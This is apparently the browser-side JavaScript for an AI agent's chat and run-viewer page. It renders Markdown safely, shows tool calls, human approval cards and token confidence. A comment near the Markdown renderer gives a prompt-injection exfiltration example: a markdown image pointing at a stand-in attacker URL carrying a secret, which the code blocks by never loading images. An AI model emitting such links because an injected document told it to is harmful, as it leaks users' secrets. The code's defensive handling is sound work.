// heron's page. Everything a model, a tool or a document wrote is put into the page as text
// (text nodes, never HTML), and Markdown is turned into elements here without loading anything.
"use strict";

const $ = (id) => document.getElementById(id);
let history = [];      // the conversation, as the OpenAI messages sent with each request
let current = null;    // {runId, controller} of the streaming request
const passages = {};   // retrieved passages by id, for citations

function el(tag, attrs, ...children) {
  const node = document.createElement(tag);
  for (const [key, value] of Object.entries(attrs || {})) {
    if (key === "class") node.className = value;
    else if (key.startsWith("on")) node.addEventListener(key.slice(2), value);
    else node.setAttribute(key, value);
  }
  for (const child of children) {
    if (child === null || child === undefined) continue;
    node.append(child instanceof Node ? child : document.createTextNode(String(child)));
  }
  return node;
}

// -- Markdown, safely: paragraphs, fenced code, lists, headings, **bold**, *em*, `code`, links -------
// Images are never loaded (a document could make the model write ![x](http://attacker/?secret));
// they show as their text. Links open only on a click, and only http(s) ones become links.
function markdown(text) {
  const root = el("div", { class: "md" });
  const lines = text.split("\n");
  let list = null;
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i];
    if (line.startsWith("```")) {
      const code = [];
      for (i++; i < lines.length && !lines[i].startsWith("```"); i++) code.push(lines[i]);
      root.append(el("pre", {}, el("code", {}, code.join("\n"))));
      list = null;
      continue;
    }
    const item = line.match(/^\s*(?:[-*+]|\d+\.)\s+(.*)$/);
    if (item) {
      if (!list) { list = el(/^\s*\d/.test(line) ? "ol" : "ul"); root.append(list); }
      list.append(el("li", {}, ...inline(item[1])));
      continue;
    }
    list = null;
    const heading = line.match(/^(#{1,6})\s+(.*)$/);
    if (heading) root.append(el("h" + Math.min(6, heading[1].length + 2), {}, ...inline(heading[2])));
    else if (line.trim()) root.append(el("p", {}, ...inline(line)));
  }
  return root;
}

function inline(text) {
  const out = [];
  const pattern = /(!?)\[([^\]]*)\]\(([^)\s]*)[^)]*\)|`([^`]+)`|\*\*([^*]+)\*\*|\*([^*]+)\*/g;
  let last = 0, m;
  while ((m = pattern.exec(text))) {
    if (m.index > last) out.push(text.slice(last, m.index));
    if (m[3] !== undefined) {
      if (m[1]) out.push(`[image: ${m[2] || "no description"}] (${m[3]})`);  // never fetched
      else if (/^https?:\/\//i.test(m[3])) out.push(el("a", { href: m[3], rel: "noopener noreferrer nofollow", target: "_blank" }, m[2]));
      else out.push(`${m[2]} (${m[3]})`);
    } else if (m[4] !== undefined) out.push(el("code", {}, m[4]));
    else if (m[5] !== undefined) out.push(el("strong", {}, m[5]));
    else out.push(el("em", {}, m[6]));
    last = pattern.lastIndex;
  }
  if (last < text.length) out.push(text.slice(last));
  return out;
}

// -- confidence: each token tinted by its probability -----------------------------------------------
function confidenceView(tokens) {
  const box = el("div", { class: "confidence" });
  for (const [token, logprob] of tokens) {
    const p = Math.exp(logprob);
    const hue = Math.round(120 * p);  // red (unsure) .. green (sure)
    const span = el("span", { title: `p = ${p.toFixed(3)}`, "data-p": p.toFixed(4) }, token);
    span.style.backgroundColor = `hsla(${hue}, 75%, 55%, ${(0.15 + 0.45 * (1 - p)).toFixed(2)})`;
    box.append(span);
  }
  return box;
}

// -- citations ------------------------------------------------------------------------------------
function openPassage(id) {
  const p = passages[id] || {};
  $("passage-id").textContent = id;
  $("passage-source").textContent = p.source || "";
  $("passage-text").textContent = p.text || "(the passage's text is not known on this page)";
  $("passage").hidden = false;
}

// -- chat -----------------------------------------------------------------------------------------
function toolCard(event, cards) {
  const card = el("details", { class: "card", "data-call": event.call_id },
    el("summary", {}, `${event.tool}(${JSON.stringify(event.arguments)})`),
    el("pre", { class: "result" }, "running..."));
  cards[event.call_id] = card;
  return card;
}

function showResult(event, cards, runId, holder) {
  const card = cards[event.call_id] || holder.appendChild(toolCard({ ...event, arguments: {} }, cards));
  card.querySelector(".result").textContent = event.text;
  if (event.is_error) card.classList.add("error");
  for (const artifact of event.artifacts || []) {
    if (artifact.kind === "image" && artifact.path) {
      const meta = artifact.metadata || {};
      const facts = ["prompt", "seed", "model", "steps"].filter((k) => meta[k] !== undefined).map((k) => `${k}: ${meta[k]}`);
      const caption = [meta.ai_generated ? "AI-generated" : null, ...facts].filter(Boolean).join(" · ");
      card.after(el("figure", {}, el("img", { src: `/api/runs/${encodeURIComponent(runId)}/files/${artifact.path.split("/").map(encodeURIComponent).join("/")}`, alt: meta.prompt || "generated image" }),
        el("figcaption", {}, caption || artifact.path)));
    }
  }
}

function approvalCard(event, runId) {
  const args = el("textarea", { rows: 4, "aria-label": "arguments" });
  args.value = JSON.stringify(event.arguments, null, 2);
  const box = el("div", { class: "approval", "data-approval": event.approval_id },
    el("div", {}, `${event.tool} asks to run (risk: ${event.risk}).`), args);
  const decide = async (decision) => {
    const body = { decision };
    if (decision === "edit") {
      try { body.arguments = JSON.parse(args.value); } catch (e) { alert("the arguments are not valid JSON: " + e.message); return; }
    }
    const r = await fetch(`/api/runs/${encodeURIComponent(runId)}/approvals/${encodeURIComponent(event.approval_id)}`,
      { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
    for (const b of box.querySelectorAll("button")) b.disabled = true;
    box.append(el("div", { class: "decided" }, r.ok ? `${decision}d` : `not taken: ${await r.text()}`));
  };
  box.append(el("div", {},
    el("button", { type: "button", class: "approve", onclick: () => decide("approve") }, "Approve"), " ",
    el("button", { type: "button", class: "secondary edit", onclick: () => decide("edit") }, "Run with these arguments"), " ",
    el("button", { type: "button", class: "secondary deny", onclick: () => decide("deny") }, "Deny")));
  return box;
}

async function ask(question) {
  const profile = $("profile").value;
  $("messages").append(el("div", { class: "msg user" }, question));
  const answer = el("div", { class: "answer" });
  const tools = el("div", { class: "tools" });
  const status = el("div", { class: "status" }, "waiting for the model...");
  const msg = el("div", { class: "msg assistant" }, tools, answer, status);
  $("messages").append(msg);
  const controller = new AbortController();
  current = { runId: null, controller };
  $("send").disabled = true; $("stop").disabled = false;
  const cards = {};
  let text = "", final = null;
  try {
    const response = await fetch("/v1/chat/completions", {
      method: "POST", signal: controller.signal,
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ model: profile, stream: true, heron: { ask: true }, messages: [...history, { role: "user", content: question }] }),
    });
    if (!response.ok) throw new Error(await response.text());
    const reader = response.body.getReader();
    const decoder = new TextDecoder();
    let buffer = "";
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      buffer += decoder.decode(value, { stream: true });
      let cut;
      while ((cut = buffer.indexOf("\n\n")) >= 0) {
        const frame = buffer.slice(0, cut); buffer = buffer.slice(cut + 2);
        const data = frame.split("\n").filter((l) => l.startsWith("data: ")).map((l) => l.slice(6)).join("\n");
        if (!data || data === "[DONE]") continue;
        const chunk = JSON.parse(data);
        const heron = chunk.heron || {};
        if (heron.run_id && !current.runId) { current.runId = heron.run_id; msg.dataset.run = heron.run_id; status.textContent = "running..."; }
        const delta = (chunk.choices[0] || {}).delta || {};
        if (delta.content) { text += delta.content; answer.textContent = text; }
        const event = heron.event;
        if (event) {
          if (event.type === "tool_call") tools.append(toolCard(event, cards));
          else if (event.type === "tool_result") showResult(event, cards, current.runId, tools);
          else if (event.type === "approval_needed") tools.append(approvalCard(event, current.runId));
          else if (event.type === "retrieval") for (const p of event.passages) passages[p.id] = p;
        }
        if (heron.status) final = heron;
      }
    }
  } catch (error) {
    status.textContent = error.name === "AbortError" ? "stopped" : `error: ${error.message}`;
  }
  $("send").disabled = false; $("stop").disabled = true; current = null;
  if (final) {
    if (final.answer !== undefined) text = final.answer;
    answer.replaceChildren(markdown(text));
    for (const c of final.citations || []) {
      passages[c.id] = passages[c.id] || c;
      answer.append(el("button", { type: "button", class: "cite", onclick: () => openPassage(c.id) }, c.id));
    }
    if ((final.answer_tokens || []).length) {
      const view = confidenceView(final.answer_tokens);
      view.hidden = true;
      const toggle = el("button", { type: "button", class: "secondary confidence-toggle", onclick: () => { view.hidden = !view.hidden; } }, "confidence");
      msg.append(toggle, view);
    }
    status.textContent = `${final.status}${final.note ? ": " + final.note : ""}${final.error ? ": " + final.error : ""}${doubts(final)}`;
    if (text) history.push({ role: "user", content: question }, { role: "assistant", content: text });
  }
}

// what a result's status adds, as the CLI says it: calls that failed or were not approved, and the
// answer's numbers that nothing the model was shown holds
function doubts(r) {
  const plural = (n, word) => `${n} ${word}${n === 1 ? "" : "s"}`;
  const parts = [];
  if (r.failed_calls) parts.push(`${plural(r.failed_calls, "failed call")}`);
  if (r.denied_calls) parts.push(`${plural(r.denied_calls, "call")} not approved, not run`);
  const numbers = r.unsourced_numbers || [];
  if (numbers.length) {
    parts.push(`no tool result, document or the request shows ${numbers.join(", ")}: the model's own figure${numbers.length === 1 ? "" : "s"}, unchecked`);
  }
  return parts.map((part) => "; " + part).join("");
}

// -- runs and a run's timeline ---------------------------------------------------------------------
const fmtTime = (t) => (t ? new Date(t * 1000).toLocaleString() : "");
const fmtSeconds = (s) => (s === undefined || s === null ? "" : `${Number(s).toFixed(1)} s`);

async function showRuns() {
  const runs = await (await fetch("/api/runs")).json();
  const body = $("runs").querySelector("tbody");
  body.replaceChildren(...runs.map((r) => el("tr", { "data-run": r.id, onclick: () => { location.hash = `#/runs/${r.id}`; } },
    el("td", {}, el("span", { class: `badge ${r.status}` }, r.status)), el("td", {}, fmtTime(r.created)),
    el("td", {}, fmtSeconds(r.seconds)), el("td", {}, r.tokens ?? ""), el("td", {}, `${r.kind}${r.name ? " " + r.name : ""}`),
    el("td", {}, (r.goal || "").slice(0, 120)))));
}

function describe(e) {
  switch (e.type) {
    case "run_started": return `started: ${e.goal} (model ${e.model}; tools ${e.tools.join(", ")})`;
    case "plan": return `plan: ${e.steps.join(" / ")}`;
    case "model_turn": return `model turn: ${e.completion_tokens} tokens in ${fmtSeconds(e.seconds)} (${e.cached_prompt_tokens}/${e.prompt_tokens} prompt tokens cached)`;
    case "tool_call": return `call ${e.tool}(${JSON.stringify(e.arguments)})`;
    case "tool_result": return `${e.is_error ? "error from" : "result of"} ${e.tool} in ${fmtSeconds(e.seconds)}`;
    case "retrieval": return `retrieved ${e.passages.length} passages for "${e.query}"`;
    case "approval_needed": return `waiting for approval: ${e.tool}`;
    case "approval": return `approval: ${e.tool} ${e.decision}${e.reason ? " (" + e.reason + ")" : ""}`;
    case "hint": return "heron to the model";
    case "tool_check": return `first-call check: ${e.tool} ${e.kept ? "kept" : "set aside"}`;
    case "repeat_set_aside": return `set aside: a repeat of an earlier ${e.tools.join(", ")} call`;
    case "answer": return e.answered ? `answer (citing ${e.citations.join(", ") || "nothing"})${doubts({ unsourced_numbers: e.unsourced })}` : `no answer: ${e.note}`;
    case "run_finished": return `finished: ${e.status}${e.error ? " (" + e.error + ")" : ""} after ${fmtSeconds(e.seconds)}${doubts({ failed_calls: e.failed_calls, denied_calls: e.denied_calls })}`;
    default: return e.type;
  }
}

function timelineItem(e, start) {
  const detail = e.type === "tool_result" ? e.text : e.type === "answer" ? e.text : e.type === "hint" ? e.text : e.type === "model_turn" ? e.output : null;
  return el("li", { "data-type": e.type }, el("span", { class: "t" }, `+${(e.time - start).toFixed(2)} s`), describe(e),
    detail ? el("details", { class: "card" }, el("summary", {}, "text"), el("pre", {}, detail)) : null);
}

let following = null;
async function showRun(runId) {
  if (following) { following.close(); following = null; }
  const response = await fetch(`/api/runs/${encodeURIComponent(runId)}`);
  if (!response.ok) { $("run-title").textContent = `Run ${runId}: ${await response.text()}`; return; }
  const run = await response.json();
  $("run-title").textContent = `Run ${run.id}`;
  $("run-meta").textContent = `${run.status || ""} · ${run.goal || ""}`;
  const list = $("timeline");
  list.replaceChildren();
  $("run-approvals").replaceChildren(...(run.pending_approvals || []).map((a) => approvalCard(a, run.id)));
  const start = run.events.length ? run.events[0].time : 0;
  let turns = [];
  const add = (e, live) => {
    if (e.type === "token" || e.type === "tool_progress") return;
    list.append(timelineItem(e, start || e.time));
    if (e.type === "model_turn" && e.logprobs) turns.push(e);
    // (cards for approvals asked before the page loaded come from run.pending_approvals)
    if (e.type === "approval_needed" && live) $("run-approvals").append(approvalCard(e, run.id));
    if (e.type === "retrieval") for (const p of e.passages) passages[p.id] = p;
    const last = turns[turns.length - 1];
    const tokens = (run.answer_tokens || []).length ? run.answer_tokens : last ? last.logprobs : null;
    $("run-confidence").replaceChildren(tokens ? confidenceView(tokens) : el("span", { class: "muted" }, "no token probabilities recorded for this run"));
  };
  run.events.forEach((e) => add(e, false));
  $("run-cancel").hidden = !run.live;
  $("run-cancel").onclick = () => fetch(`/api/runs/${encodeURIComponent(run.id)}/cancel`, { method: "POST" });
  $("run-resume").hidden = !run.resumable || run.live;
  $("run-resume").onclick = async () => { await fetch(`/api/runs/${encodeURIComponent(run.id)}/resume`, { method: "POST" }); showRun(run.id); };
  if (run.live) {
    // the stream replays the run from its start (again after a reconnect): skip what is shown
    let shown = run.events.length, skip = 0;
    following = new EventSource(`/api/runs/${encodeURIComponent(run.id)}/events`);
    following.onopen = () => { skip = shown; };
    following.onmessage = (m) => { if (skip > 0) { skip--; return; } shown++; add(JSON.parse(m.data), true); };
    following.addEventListener("end", () => { following.close(); following = null; showRun(run.id); });
  }
}

async function showReports() {
  const reports = await (await fetch("/api/reports")).json();
  $("reports").replaceChildren(...(reports.length ? reports.map((r) => el("li", {}, el("a", { href: "#/reports", onclick: (ev) => {
    ev.preventDefault(); $("report").src = `/api/reports/${encodeURIComponent(r.name)}`; $("report").hidden = false; } }, r.name))) : [el("li", { class: "muted" }, "no eval reports yet (heron eval ... writes them)")]));
}

// -- routing --------------------------------------------------------------------------------------
function route() {
  const hash = location.hash || "#/chat";
  const [, page, id] = hash.split("/");
  for (const section of document.querySelectorAll(".page")) section.hidden = true;
  for (const a of document.querySelectorAll("nav a")) a.classList.toggle("active", a.getAttribute("href") === `#/${page}`);
  if (page === "runs" && id) { $("page-run").hidden = false; showRun(decodeURIComponent(id)); }
  else if (page === "runs") { $("page-runs").hidden = false; showRuns(); }
  else if (page === "reports") { $("page-reports").hidden = false; showReports(); }
  else { $("page-chat").hidden = false; $("question").focus(); }
}

async function start() {
  const models = await (await fetch("/v1/models")).json();
  $("profile").replaceChildren(...models.data.map((m) => el("option", { value: m.id }, m.id)));
  $("ask").addEventListener("submit", (ev) => {
    ev.preventDefault();
    const question = $("question").value.trim();
    if (!question || current) return;
    $("question").value = "";
    ask(question);
  });
  $("question").addEventListener("keydown", (ev) => {
    if (ev.key === "Enter" && !ev.shiftKey) { ev.preventDefault(); $("ask").requestSubmit(); }
  });
  $("stop").addEventListener("click", () => { if (current) current.controller.abort(); });
  $("passage-close").addEventListener("click", () => { $("passage").hidden = true; });
  window.addEventListener("hashchange", route);
  route();
}

start();
